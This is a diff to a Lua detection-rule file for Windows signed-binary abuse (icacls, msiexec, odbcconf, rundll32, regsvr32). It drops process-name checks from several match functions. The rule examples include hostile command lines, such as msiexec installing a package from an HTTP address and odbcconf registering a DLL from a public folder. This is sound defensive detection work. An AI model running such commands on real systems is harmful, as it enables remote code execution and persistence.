@@ -137,7 +137,7 @@ rules.define {
   falsepositives = { "Misguided admin fixes on shared folders" },
   match = function(p)
     local c = cl(p)
-    return p.name == "icacls.exe" and c:find("/grant", 1, true) and c:find("/t", 1, true)
+    return c:find("/grant", 1, true) and c:find("/t", 1, true)
       and (c:find("everyone:f", 1, true) or c:find("everyone:%(oi%)%(ci%)f") or c:find("*s-1-1-0:f", 1, true))
   end,
   examples = {
@@ -313,7 +313,7 @@ rules.define {
   description = "msiexec /i or /q with an http(s) URL installs and runs remote code with a signed binary.",
   technique = { "T1218.007" },
   falsepositives = { "Software deployment from an internal web server" },
-  match = function(p) local c = cl(p) return p.name == "msiexec.exe" and c:find(url) ~= nil end,
+  match = function(p) local c = cl(p) return c:find(url) ~= nil end,
   examples = {
     positive = { X("msiexec.exe", [[msiexec /q /i http://10.0.0.5/a.msi]]) },
     negative = { X("msiexec.exe", [[msiexec /i C:\t\app.msi /qn]]), X("msiexec.exe", [[msiexec /V]]) },
@@ -329,7 +329,7 @@ rules.define {
   falsepositives = { "ODBC driver installers" },
   match = function(p)
     local c = cl(p)
-    return p.name == "odbcconf.exe" and (c:find("regsvr", 1, true) or c:find("%.rsp"))
+    return (c:find("regsvr", 1, true) or c:find("%.rsp"))
   end,
   examples = {
     positive = { X("odbcconf.exe", [[odbcconf /a {regsvr C:\Users\Public\a.dll}]]), X("odbcconf.exe", [[odbcconf -f x.rsp]]) },
@@ -406,7 +406,6 @@ rules.define {
   technique = { "T1218.011" },
   falsepositives = { "Old installers using advpack LaunchINFSection with their own INF" },
   match = function(p)
-    if p.name ~= "rundll32.exe" then return false end
     local c = cl(p)
     local hit = F13(c)
     return hit ~= nil, hit and ("export " .. hit)
@@ -431,7 +430,6 @@ rules.define {
   technique = { "T1218.011", "T1218.010" },
   falsepositives = { "Per-user software (Teams, OneDrive) registering its own DLLs under AppData" },
   match = function(p)
-    if p.name ~= "rundll32.exe" and p.name ~= "regsvr32.exe" then return false end
     local a = p.args
     for k = 2, #a do
       local v = a[k]:gsub(",.*$", "")
